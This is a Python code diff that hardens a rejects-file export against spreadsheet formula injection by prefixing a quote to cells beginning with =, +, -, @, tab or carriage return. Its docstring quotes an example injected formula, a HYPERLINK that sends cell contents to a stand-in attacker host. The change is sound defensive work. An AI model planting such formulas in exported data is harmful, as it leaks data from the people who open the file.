@@ -274,7 +274,27 @@ class _Reject:
     reason: str
 
     def line(self) -> tuple[str, ...]:
-        return (str(self.row), self.external_id, self.field, self.value, self.reason)
+        return (
+            str(self.row),
+            spreadsheet_safe(self.external_id),
+            spreadsheet_safe(self.field),
+            spreadsheet_safe(self.value),
+            spreadsheet_safe(self.reason),
+        )
+
+
+#: First characters that make Excel, LibreOffice and Sheets read a cell as a formula
+#: (contract §5: =, +, -, @; tab and carriage return too, as OWASP lists them).
+_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_safe(value: str) -> str:
+    """``value`` as a spreadsheet shows it and never runs it: a leading ``'`` before a formula.
+
+    Operators open the rejects file in Excel; a rejected value such as
+    ``=HYPERLINK("https://evil.example/?"&A1, "fix")`` would otherwise be a live formula.
+    """
+    return "'" + value if value.startswith(_FORMULA_STARTS) else value
 
 
 class _RejectsFile:
